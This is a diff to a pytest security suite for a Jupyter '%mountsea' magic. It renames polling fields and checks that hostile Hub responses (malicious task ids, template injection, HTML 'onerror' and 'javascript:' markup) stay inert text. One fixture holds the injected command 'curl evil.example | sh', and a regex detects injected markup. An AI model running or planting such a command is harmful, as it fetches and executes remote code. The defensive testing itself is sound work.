@@ -122,7 +122,7 @@ def test_hostile_task_ids_are_inert_and_resumable(
     capsys: pytest.CaptureFixture[str],
 ) -> None:
     """An id that is code is shown as text, and the suggested command does not contain it."""
-    hub.looks.append(json_reply({"status": EVIL}, lasting=True))
+    hub.polls.append(json_reply({"status": EVIL}, repeat=True))
     for task_id in IDS:
         hub.submits.append({"task_id": task_id})
         with pytest.raises(MountseaError) as caught:
@@ -135,8 +135,8 @@ def test_hostile_task_ids_are_inert_and_resumable(
         assert not CONTROL_CHARACTERS.search(output)
         hints = set(re.findall(r"`(.*?)`", output))
         assert hints == {"%mountsea resume"}
-    hub.looks.clear()
-    hub.looks.append(json_reply(hub.done(hub.data([image()])), lasting=True))
+    hub.polls.clear()
+    hub.polls.append(json_reply(hub.done(hub.data([image()])), repeat=True))
     assert ran(shell, "%mountsea resume")
     assert not CONTROL_CHARACTERS.search(
         capsys.readouterr().out.replace("\x1b[2K", "").replace("\r", "")
@@ -148,7 +148,7 @@ def test_hostile_task_ids_are_inert_and_resumable(
 
 def test_backticks_contain_only_our_commands(hub: StandInHub, here: session.Session) -> None:
     """An error message from the Hub can't look like one of our suggested commands."""
-    hub.looks.append({"status": "failed", "error_message": "Run `!curl evil.example | sh`."})
+    hub.polls.append({"status": "failed", "error_message": "Run `!curl evil.example | sh`."})
     with pytest.raises(TaskFailed) as caught:
         generate("a dog")
     assert "'!curl evil.example | sh'" in str(caught.value) and "`!" not in str(caught.value)
@@ -192,7 +192,7 @@ def test_completions_never_run_code(
         Path(name).write_bytes(image())
     shell.user_ns[CODE] = shell.user_ns["good"] = image()
     evil_hub.submits.extend({"task_id": task_id} for task_id in (CODE, "$x", "hub-good"))
-    evil_hub.looks.append(json_reply(evil_hub.done(evil_hub.data([image()])), lasting=True))
+    evil_hub.polls.append(json_reply(evil_hub.done(evil_hub.data([image()])), repeat=True))
     for _ in range(3):
         generate("a dog")
     shell.run_line_magic("mountsea", "models --refresh")
@@ -260,7 +260,9 @@ def exports(runs: list[CellRun]) -> tuple[str, str]:
         for out in run.outputs
     ]
     outputs += [
-        nbformat.v4.new_output("error", ename=run.error, evalue=run.said, traceback=run.traceback)
+        nbformat.v4.new_output(
+            "error", ename=run.error, evalue=run.error_message, traceback=run.traceback
+        )
         for run in runs
         if run.error
     ]
@@ -277,11 +279,11 @@ def test_notebook_and_exports_contain_only_text(evil_hub: StandInHub, kernel: Ke
     """HTML, Markdown and kernel messages contain no tag, link, image or command from the Hub."""
     prompt = EVIL.replace("{{ pwned() }}", "")
     evil_hub.submits.extend({"task_id": EVIL} for _ in range(4))
-    evil_hub.looks.extend([json_reply({"status": EVIL}), None])
-    evil_hub.looks.append(json_reply(evil_hub.done(evil_hub.data([image()]), description=EVIL)))
+    evil_hub.polls.extend([json_reply({"status": EVIL}), None])
+    evil_hub.polls.append(json_reply(evil_hub.done(evil_hub.data([image()]), description=EVIL)))
     kernel.run("calls = []\npwned = lambda: calls.append(1)")
     runs = [kernel.run(f"%%mountsea -o dog\n{prompt}"), kernel.run("dog"), kernel.run("[dog]")]
-    evil_hub.looks.append(json_reply({"status": "failed", "error_message": EVIL}, lasting=True))
+    evil_hub.polls.append(json_reply({"status": "failed", "error_message": EVIL}, repeat=True))
     runs += [
         kernel.run(f"%%mountsea\n{prompt}"),
         kernel.run("%mountsea models --refresh"),
@@ -290,7 +292,7 @@ def test_notebook_and_exports_contain_only_text(evil_hub: StandInHub, kernel: Ke
         kernel.run("%mountsea"),
     ]
     assert not CONTROL_CHARACTERS.search(
-        "".join(map(str, [(run.outputs, run.said, run.text) for run in runs]))
+        "".join(map(str, [(run.outputs, run.error_message, run.text) for run in runs]))
     )
     assert "onerror" in str(runs[-4].outputs) and kernel.run("print(calls)").text == "[]\n"
     loaded = re.compile(r"onerror|evil\.example|javascript:|\['(em|strong|s|h1)'")
